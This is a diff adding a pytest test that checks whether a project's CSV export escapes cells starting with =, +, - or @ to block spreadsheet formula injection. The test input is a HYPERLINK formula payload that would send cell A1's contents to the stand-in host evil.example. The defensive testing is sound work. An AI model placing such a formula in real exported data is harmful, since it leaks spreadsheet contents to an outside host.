@@ -528,6 +528,29 @@ def test_materialize_writes_the_same_pages(tmp_path: Path, capsys: pytest.Captur
     assert main(["--root", str(REPO), "materialize", str(REPO / "practices")]) == 2
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
+def test_open_data_csv_cells_never_start_a_formula(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str], start: str
+) -> None:
+    from compendium.cli.main import main
+
+    title = f'{start}HYPERLINK("https://evil.example/?leak="&A1,"Open")'
+    record = (RECORDS / "good" / "minimal.md").read_text(encoding="utf-8")
+    record = record.replace("title: Golden minimal record", "title: " + json.dumps(title))
+    record = record.replace(
+        "contact: {organisation: Example Board}", "contact: {organisation: '@Example Board'}"
+    )
+    root = fixture_project(tmp_path / "project", {"formula.md": record})
+    assert main(["--root", str(root), "materialize", str(tmp_path / "out")]) == 0
+    rows = list(csv.DictReader(io.StringIO((tmp_path / "out" / "data" / "practices.csv").read_text("utf-8"))))
+    row = next(r for r in rows if r["id"] == "formula")
+    assert row["title"] == "'" + title
+    assert row["contact"] == "'@Example Board"
+    # The JSON keeps the value as written: only spreadsheets need the guard.
+    data = json.loads((tmp_path / "out" / "data" / "practices.json").read_text("utf-8"))
+    assert next(p for p in data["practices"] if p["id"] == "formula")["title"] == title
+
+
 def test_volume_pages_link_their_pdf(repo_site: Path) -> None:
     page = (repo_site / "volumes" / "01-the-genius-of-regions" / "index.html").read_text(encoding="utf-8")
     assert 'href="01-the-genius-of-regions.pdf"' in page
